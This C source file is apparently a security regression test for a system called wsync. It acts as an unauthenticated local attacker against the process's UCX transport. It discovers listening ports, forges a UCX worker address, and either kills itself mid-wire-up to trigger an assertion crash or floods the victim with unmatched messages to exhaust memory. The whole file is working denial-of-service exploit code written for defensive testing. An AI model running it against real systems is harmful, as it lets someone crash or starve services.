/* ucx_outsider — the attack run's recipe against a wsync process's UCX, played by a process that
 * knows nothing of the group (no secret, no store access, no worker address):
 *
 *   ucx_outsider crash <pid> <attempts>      every attempt is a fresh process that builds a UCX
 *       worker address from its own with the victim's TCP port in it, creates an endpoint to it,
 *       sends under a random tag to start the wire-up (OUTSIDER_SEND_KB: that many KiB more),
 *       progresses for a random 0-3 ms (OUTSIDER_MAX_US: 0 to that many microseconds) and then
 *       dies (SIGKILL) mid-wire-up. UCX 1.13.1 asserted on the victim's side ("got REP message",
 *       uct_tcp_ep_pending_purge <- ucp_ep_set_failed) and the victim aborted.
 *   ucx_outsider flood <pid> <seconds>       one process that connects the same way and sends
 *       4 KiB messages under random tags (never matched) for <seconds>, printing the victim's
 *       peak resident memory. They used to pile up in UCX's unexpected queue without bound.
 *
 * The victim's TCP ports are the listening sockets of <pid> (/proc/<pid>/fd against
 * /proc/net/tcp{,6}), the way a local user finds them; every one of them is tried, as the attacker
 * cannot tell UCX's from wsync's own. Prints one line "outsider: ..." with what it did: the ports
 * it found (none: no door), the attempts made and how many reached a port. Exit 0 unless it could
 * not run at all (2). Whether the victim survived is the test's to check. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <ucp/api/ucp.h>

#define MAX_PORTS 64

typedef struct {
  unsigned long inode[1024];
  int n;
} inode_set_t;

/* The socket inodes open in process `pid` ("self" for this one). */
static void socket_inodes(const char* pid, inode_set_t* set) {
  char dir[64], link[128], target[128];
  DIR* d;
  struct dirent* e;
  set->n = 0;
  snprintf(dir, sizeof dir, "/proc/%s/fd", pid);
  if ((d = opendir(dir)) == NULL) return;
  while ((e = readdir(d)) != NULL && set->n < 1024) {
    ssize_t len;
    if (snprintf(link, sizeof link, "%s/%.200s", dir, e->d_name) >= (int)sizeof link) continue;
    len = readlink(link, target, sizeof target - 1);
    if (len <= 0) continue;
    target[len] = '\0';
    if (sscanf(target, "socket:[%lu]", &set->inode[set->n]) == 1) set->n++;
  }
  closedir(d);
}

/* The TCP ports process `pid` listens on (IPv4 and IPv6), into ports[]; returns how many. */
static int listening_ports(const char* pid, uint16_t* ports, int cap) {
  static const char* const kTables[] = {"/proc/net/tcp", "/proc/net/tcp6"};
  inode_set_t set;
  int n = 0;
  size_t t;
  socket_inodes(pid, &set);
  for (t = 0; t < 2; ++t) {
    char line[512];
    FILE* f = fopen(kTables[t], "r");
    if (f == NULL) continue;
    while (fgets(line, sizeof line, f) != NULL && n < cap) {
      char local[128];
      unsigned st, port;
      unsigned long inode;
      int i;
      /* sl local rem st tx:rx tr:when retrnsmt uid timeout inode */
      if (sscanf(line, " %*d: %127s %*s %x %*s %*s %*s %*u %*d %lu", local, &st, &inode) != 3) continue;
      if (st != 0x0A) continue; /* LISTEN */
      for (i = 0; i < set.n && set.inode[i] != inode; ++i) {}
      if (i == set.n) continue;
      if (sscanf(strchr(local, ':') + 1, "%x", &port) != 1) continue;
      ports[n++] = (uint16_t)port;
    }
    fclose(f);
  }
  return n;
}

typedef struct {
  ucp_context_h ctx;
  ucp_worker_h worker;
  ucp_ep_h ep;
} outsider_t;

static int open_worker(outsider_t* o) {
  ucp_config_t* c = NULL;
  ucp_params_t p;
  ucp_worker_params_t wp;
  if (ucp_config_read(NULL, NULL, &c) != UCS_OK) return -1;
  ucp_config_modify(c, "TLS", "tcp");
  ucp_config_modify(c, "NET_DEVICES", "lo");
  memset(&p, 0, sizeof p);
  p.field_mask = UCP_PARAM_FIELD_FEATURES;
  p.features = UCP_FEATURE_TAG;
  if (ucp_init(&p, c, &o->ctx) != UCS_OK) return -1;
  ucp_config_release(c);
  memset(&wp, 0, sizeof wp);
  return ucp_worker_create(o->ctx, &wp, &o->worker) == UCS_OK ? 0 : -1;
}

static void on_error(void* arg, ucp_ep_h ep, ucs_status_t status) { (void)arg, (void)ep, (void)status; }

/* Our own worker address with our TCP port replaced by `port` and a random worker id: an address
 * of "the victim" as far as UCX can tell. */
static int forge_address(outsider_t* o, uint16_t port, ucp_address_t** out, size_t* len) {
  uint16_t mine[MAX_PORTS];
  int n = listening_ports("self", mine, MAX_PORTS), i, patched = 0;
  size_t k;
  uint8_t* a;
  if (ucp_worker_get_address(o->worker, out, len) != UCS_OK) return -1;
  a = (uint8_t*)*out;
  for (i = 0; i < n; ++i)
    for (k = 0; k + 1 < *len; ++k)
      if (a[k] == (mine[i] >> 8) && a[k + 1] == (mine[i] & 0xff)) { /* network order */
        a[k] = (uint8_t)(port >> 8);
        a[k + 1] = (uint8_t)(port & 0xff);
        patched = 1;
      }
  /* A worker id of its own (bytes 1-8 of the packed address, after the header byte): with ours the
   * endpoint would be taken for one to this very worker. */
  for (k = 1; k < 9 && k < *len; ++k) a[k] = (uint8_t)random();
  return patched ? 0 : -1;
}

static int connect_to(outsider_t* o, uint16_t port) {
  ucp_address_t* addr = NULL;
  size_t len = 0;
  ucp_ep_params_t ep;
  int rc;
  if (forge_address(o, port, &addr, &len) != 0) return -1;
  memset(&ep, 0, sizeof ep);
  ep.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                  UCP_EP_PARAM_FIELD_ERR_HANDLER;
  ep.address = addr;
  ep.err_mode = UCP_ERR_HANDLING_MODE_PEER;
  ep.err_handler.cb = on_error;
  rc = ucp_ep_create(o->worker, &ep, &o->ep) == UCS_OK ? 0 : -1;
  ucp_worker_release_address(o->worker, addr);
  return rc;
}

static uint64_t random_tag(void) { return ((uint64_t)random() << 33) ^ ((uint64_t)random() << 11) ^ (uint64_t)random(); }

static void send_some(outsider_t* o, size_t size, int count) {
  static char buf[1 << 16];
  ucp_request_param_t p;
  int i;
  memset(&p, 0, sizeof p);
  memset(buf, 0x5A, size < sizeof buf ? size : sizeof buf);
  for (i = 0; i < count; ++i) {
    void* r = ucp_tag_send_nbx(o->ep, buf, size < sizeof buf ? size : sizeof buf, random_tag(), &p);
    if (UCS_PTR_IS_PTR(r)) ucp_request_free(r); /* buf is static: it may complete later */
  }
}

/* One attempt in a child: connect, start the wire-up, die mid-way. Returns 1 if it got as far as
 * an endpoint. */
static void crash_attempt(uint16_t port, unsigned seed) {
  outsider_t o;
  struct timespec until, now;
  long budget_us;
  srandom(seed);
  memset(&o, 0, sizeof o);
  if (open_worker(&o) != 0 || connect_to(&o, port) != 0) _exit(3);
  send_some(&o, 64, 1);
  /* OUTSIDER_SEND_KB: a few hundred KB more, as the third attack run sent (64 KiB messages). */
  if (getenv("OUTSIDER_SEND_KB") != NULL) send_some(&o, 1 << 16, (int)(atol(getenv("OUTSIDER_SEND_KB")) / 64));
  budget_us = getenv("OUTSIDER_MAX_US") ? random() % atol(getenv("OUTSIDER_MAX_US")) : random() % 3000;
  clock_gettime(CLOCK_MONOTONIC, &until);
  until.tv_nsec += budget_us * 1000;
  until.tv_sec += until.tv_nsec / 1000000000L;
  until.tv_nsec %= 1000000000L;
  do {
    ucp_worker_progress(o.worker);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec < until.tv_sec || (now.tv_sec == until.tv_sec && now.tv_nsec < until.tv_nsec));
  kill(getpid(), SIGKILL); /* mid-wire-up, no goodbye */
  _exit(4);
}

static long rss_kib(const char* pid) {
  char path[64], line[256];
  long kib = -1;
  FILE* f;
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  if ((f = fopen(path, "r")) == NULL) return -1;
  while (fgets(line, sizeof line, f) != NULL)
    if (sscanf(line, "VmRSS: %ld kB", &kib) == 1) break;
  fclose(f);
  return kib;
}

static int run_crash(const char* pid, int attempts) {
  uint16_t ports[MAX_PORTS];
  int n = listening_ports(pid, ports, MAX_PORTS), i, reached = 0, made = 0;
  if (n == 0) {
    printf("outsider: pid %s listens on no TCP port: no door (0 attempts)\n", pid);
    return 0;
  }
  for (i = 0; i < attempts; ++i) {
    uint16_t port = getenv("OUTSIDER_PORT") ? (uint16_t)atoi(getenv("OUTSIDER_PORT")) : ports[i % n];
    int status = 0;
    pid_t child;
    if (kill((pid_t)atoi(pid), 0) != 0) break; /* the victim is gone: the test will say so */
    child = fork();
    if (child == 0) crash_attempt(port, (unsigned)(getpid() * 2654435761u + (unsigned)i));
    if (child < 0) return 2;
    waitpid(child, &status, 0);
    ++made;
    if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL) ++reached;
  }
  printf("outsider: pid %s: %d port(s); %d attempt(s), %d died mid-wire-up as planned\n", pid, n, made, reached);
  return 0;
}

static int run_flood(const char* pid, int seconds) {
  uint16_t ports[MAX_PORTS];
  int n = listening_ports(pid, ports, MAX_PORTS), i;
  long before = rss_kib(pid), peak = before;
  time_t end = time(NULL) + seconds;
  outsider_t o[MAX_PORTS];
  int connected = 0;
  if (n == 0) {
    printf("outsider: pid %s listens on no TCP port: no door; rss %ld KiB\n", pid, before);
    return 0;
  }
  for (i = 0; i < n; ++i) {
    memset(&o[i], 0, sizeof o[i]);
    if (open_worker(&o[i]) == 0 && connect_to(&o[i], ports[i]) == 0) ++connected;
    else o[i].ep = NULL;
  }
  while (time(NULL) < end) {
    long r;
    for (i = 0; i < n; ++i) {
      if (o[i].ep == NULL) continue;
      send_some(&o[i], 4096, 64);
      ucp_worker_progress(o[i].worker);
    }
    if ((r = rss_kib(pid)) > peak) peak = r;
    if (r < 0) break;
  }
  printf("outsider: pid %s: %d port(s), %d endpoint(s); rss before %ld KiB, peak %ld KiB\n", pid, n, connected, before,
         peak);
  fflush(stdout);
  _exit(0); /* no goodbye either */
}

int main(int argc, char** argv) {
  if (argc != 4 || (strcmp(argv[1], "crash") != 0 && strcmp(argv[1], "flood") != 0)) {
    fprintf(stderr, "usage: ucx_outsider crash <pid> <attempts> | flood <pid> <seconds>\n");
    return 2;
  }
  signal(SIGPIPE, SIG_IGN);
  setvbuf(stdout, NULL, _IOLBF, 0);
  return strcmp(argv[1], "crash") == 0 ? run_crash(argv[2], atoi(argv[3])) : run_flood(argv[2], atoi(argv[3]));
}
